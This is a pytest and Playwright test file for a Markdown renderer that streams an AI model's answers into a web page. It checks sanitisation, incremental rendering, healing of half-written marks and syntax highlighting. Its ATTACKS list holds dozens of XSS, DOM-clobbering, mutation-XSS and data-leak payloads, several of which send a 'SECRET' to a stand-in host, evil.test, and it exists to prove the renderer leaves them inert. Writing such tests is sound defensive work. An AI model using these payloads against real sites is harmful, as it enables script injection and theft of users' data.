"""A model's text becomes elements that are safe, and grow as they would have been made at once."""

import random

import pytest
from playwright.async_api import Page

pytestmark = [pytest.mark.services, pytest.mark.asyncio(loop_scope="module")]

_WHOLE = """async (text) => {
  const {Prose} = await import('/assets/view/messages/prose.js');
  const root = document.querySelector('main');
  root.replaceChildren();
  new Prose(root).finish(text);
  return root.innerHTML;
}"""

_GROWN = """async ({text, cuts}) => {
  const {Prose} = await import('/assets/view/messages/prose.js');
  const root = document.createElement('div');
  const prose = new Prose(root);
  for (const cut of cuts) prose.grow(text.slice(0, cut));
  prose.finish(text);
  return root.innerHTML;
}"""

EVERYTHING = """# Title

A paragraph with **bold**, *italic*, `code`, ~~gone~~ and a [link](https://example.org/a?b=c).
Its second line.

- one
- two
  - nested
  - again

1. first

2. second after a blank line

> quoted
> still

| Name | Count |
|:-----|------:|
| a    | 1     |
| b    | 22    |

```text
if (a < b) {
  return "<b>not bold</b>";
}

# no heading
```

- [x] done
- [ ] open

Setext
------

    indented code

***

The end: https://example.org/bare
"""

ATTACKS = [
    "<script>window.__hit = 1</script>",
    "<img src=x onerror='window.__hit = 1'>",
    "<svg onload=window.__hit=1>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<style>body { display: none }</style>",
    "<a href='javascript:window.__hit=1'>x</a>",
    "[x](javascript:window.__hit=1)",
    "[x](JaVaScRiPt:window.__hit=1)",
    "[x](java\tscript:window.__hit=1)",
    "[x](&#106;avascript:window.__hit=1)",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>window.__hit=1</script>)",
    "[x](/api/v1/auth/logout)",
    "[x](//evil.test/x)",
    "<javascript:window.__hit=1>",
    "![x](https://evil.test/?q=SECRET)",
    "![x](http://page.test/assets/app.js)",
    "![x](data:image/svg+xml,<svg onload=window.__hit=1>)",
    "[![x](https://evil.test/?q=SECRET)](https://evil.test)",
    "```html\n<script>window.__hit = 1</script>\n```",
    '```"><script>window.__hit=1</script>\nx\n```',
    "`<script>window.__hit=1</script>`",
    '[x](https://example.org "onmouseover=window.__hit=1")',
    '[x](https://example.org/" onmouseover="window.__hit=1)',
    "| <img src=x onerror=window.__hit=1> |\n|---|\n| <script>window.__hit=1</script> |",
    "<form action=https://evil.test><button>Log in</button></form>",
    "<input name=password autofocus onfocus=window.__hit=1>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert()&gt;'>",
    "[a]: javascript:window.__hit=1\n\n[a]",
    "&lt;script&gt;window.__hit=1&lt;/script&gt;",
    "\u202e<script>window.__hit=1</script>\u2028\x00",
    "<a id=location name=cookie></a><form name=body><input name=parentNode></form>",
    '[x](https://example.org "id=main name=body")',
    "# <img name=getElementById>\n\n[a](https://example.org){#main .hidden target=_self}",
    '<a href="https://example.org" target="_top" ping="https://evil.test">x</a>',
    "<div style='background:url(https://evil.test/?q=SECRET);position:fixed'>x</div>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;https://evil.test'>",
    "</script></textarea></title></main><script>window.__hit=1</script>",
    "![x](https://evil.test/?q=SECRET 'x' =1x1)\n\n<img srcset='https://evil.test/?q=SECRET 1x'>",
    "[x](blob:https://example.org/1) [y](file:///etc/passwd) [z](filesystem:https://example.org/x)",
    "<svg><a xlink:href='javascript:window.__hit=1'><text>x</text></a></svg>",
    "<math href='javascript:window.__hit=1'>x</math>",
    "<mtext></form><form><mglyph><style></math><img src onerror=window.__hit=1>",
    '```" onmouseover=window.__hit=1 x="\nx\n```\n\n~~~<img/src/onerror=window.__hit=1>\nx\n~~~',
]

_FINDINGS = """() => {
  const main = document.querySelector('main');
  const hrefs = [...main.querySelectorAll('a')];
  return {
    hit: window.__hit ?? null,
    active: main.querySelectorAll('script,img,svg,iframe,style,form,input,object,embed,link,'
      + 'meta,base,video,audio,math').length,
    handlers: [...main.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())
      .filter((name) => name.startsWith('on')
        || ['style', 'src', 'srcset', 'id', 'name', 'ping', 'action'].includes(name)),
    links: hrefs.map((a) => a.href).filter((href) => !/^(https?|mailto):/.test(href)
      || href.startsWith(location.origin)),
    unsafe: hrefs.filter((a) => a.target !== '_blank'
      || a.rel !== 'noopener noreferrer nofollow').length,
  };
}"""

INERT: dict[str, object] = {"hit": None, "active": 0, "handlers": [], "links": [], "unsafe": 0}


@pytest.mark.parametrize("attack", ATTACKS)
async def test_an_attack_in_an_answer_is_inert(modules: Page, attack: str) -> None:
    requests: list[str] = []
    modules.on("request", lambda request: requests.append(request.url))

    await modules.evaluate(_WHOLE, attack)
    # Two frames: an image or a frame that was going to load has asked by now.
    await modules.evaluate(
        "() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))"
    )

    assert await modules.evaluate(_FINDINGS) == INERT
    assert [url for url in requests if "/assets/" not in url] == []


async def test_an_image_is_a_link_that_only_a_reader_can_follow(modules: Page) -> None:
    html = await modules.evaluate(_WHOLE, "![a <cat>](https://example.org/cat.png)")

    assert "<img" not in html
    assert 'href="https://example.org/cat.png"' in html
    assert "a &lt;cat&gt;" in html


async def test_the_usual_marks_become_their_elements(modules: Page) -> None:
    html = await modules.evaluate(_WHOLE, EVERYTHING)

    for part in (
        "<h3>Title</h3>", "<strong>bold</strong>", "<em>italic</em>", "<code>code</code>",
        "<s>gone</s>", "<br>", '<td class="align-right">22</td>', "<blockquote>", "<hr>",
        "☑ done", "☐ open", "<h4>Setext</h4>", "&lt;b&gt;not bold&lt;/b&gt;",
        'href="https://example.org/bare"',
    ):  # fmt: skip
        assert part in html, part


async def test_a_text_that_grew_in_any_steps_ends_as_the_whole_text_does(modules: Page) -> None:
    choice = random.Random(7)  # noqa: S311 - seeded, so that a failure can be repeated
    whole = await modules.evaluate(_WHOLE, EVERYTHING)
    steps = [list(range(1, len(EVERYTHING) + 1))]
    steps += [sorted(choice.sample(range(1, len(EVERYTHING)), 25)) for _ in range(20)]

    for cuts in steps:
        assert await modules.evaluate(_GROWN, {"text": EVERYTHING, "cuts": cuts}) == whole


async def test_blocks_are_right_while_they_grow_not_only_at_the_end(modules: Page) -> None:
    """Without the last, whole pass: what was settled on the way is what it should be."""
    whole = await modules.evaluate(_WHOLE, EVERYTHING)
    grown = await modules.evaluate(
        """async (text) => {
          const {Prose} = await import('/assets/view/messages/prose.js');
          const root = document.createElement('div');
          const prose = new Prose(root);
          for (let cut = 1; cut <= text.length; cut += 1) prose.grow(text.slice(0, cut));
          return root.innerHTML;
        }""",
        EVERYTHING,
    )

    assert grown == whole


async def test_finished_blocks_are_never_touched_again(modules: Page) -> None:
    changed = await modules.evaluate(
        """async () => {
          const {Prose} = await import('/assets/view/messages/prose.js');
          const root = document.querySelector('main');
          root.replaceChildren();
          const prose = new Prose(root);
          let text = 'First paragraph.\\n\\n```text\\ncode\\n```\\n\\nThird.\\n\\nFourth';
          prose.grow(text);
          const seen = [];
          const observer = new MutationObserver((list) => seen.push(...list));
          const all = {subtree: true, childList: true, characterData: true, attributes: true};
          for (const block of [...root.children].slice(0, 2)) observer.observe(block, all);
          for (let i = 0; i < 300; i += 1) {
            text += i % 40 ? ' word' : '\\n\\nNew';
            prose.grow(text);
          }
          seen.push(...observer.takeRecords());
          return {changes: seen.length, first: root.children[0].textContent};
        }"""
    )

    assert changed == {"changes": 0, "first": "First paragraph."}


async def test_the_cost_of_a_delta_does_not_grow_with_the_answer(modules: Page) -> None:
    """Counted, not timed: the characters that are parsed for a delta late in a long answer."""
    parsed = await modules.evaluate(
        """async () => {
          const {Prose} = await import('/assets/view/messages/prose.js');
          const {toBlocks} = await import('/assets/markdown.js');
          const root = document.createElement('div');
          const prose = new Prose(root);
          let text = '';
          for (let i = 0; i < 400; i += 1) text += `Paragraph ${i} with some words.\\n\\n`;
          prose.grow(text);
          const before = [...root.children];
          prose.grow(text + 'The next');
          const kept = before.filter((block, i) => root.children[i] === block).length;
          return {kept, blocks: toBlocks(text, {}).length, unsettled: prose.unsettledLength};
        }"""
    )

    assert parsed["kept"] == parsed["blocks"] == 400
    assert parsed["unsettled"] < 100


@pytest.mark.parametrize(
    ("half", "shown"),
    [
        ("This is **bol", "This is **bol**"),
        ("This is **", "This is "),
        ("Run `ls -", "Run `ls -`"),
        ("See [the docs](https://exa", "See the docs"),
        ("See [the do", "See the do"),
        ("Look: ![a cat](https://exa", "Look: a cat"),
        ("Text\n-", "Text\n"),
        ("Text\n\n1.", "Text\n\n"),
        ("Text\n\n| a | b |", "Text\n"),
        ("Text\n\n```py\nx = **2", "Text\n\n```py\nx = **2"),
        ("Text\n\n``", "Text\n\n"),
        ("All **done**.", "All **done**."),
    ],
)
async def test_half_written_marks_do_not_flash_up(modules: Page, half: str, shown: str) -> None:
    healed = await modules.evaluate(
        "async (text) => (await import('/assets/markdown.js')).heal(text)", half
    )

    assert healed.rstrip(" ") == shown.rstrip(" ")


async def test_known_languages_are_coloured_and_unknown_ones_are_shown_plain(
    modules: Page,
) -> None:
    await modules.evaluate(_WHOLE, "```python\ndef f(): return 1\n```\n\n```nosuch\nx < y\n```")
    await modules.locator("main .hljs-keyword").first.wait_for()

    assert await modules.locator("main pre").nth(0).inner_text() == "def f(): return 1"
    assert await modules.locator("main pre").nth(1).inner_text() == "x < y"
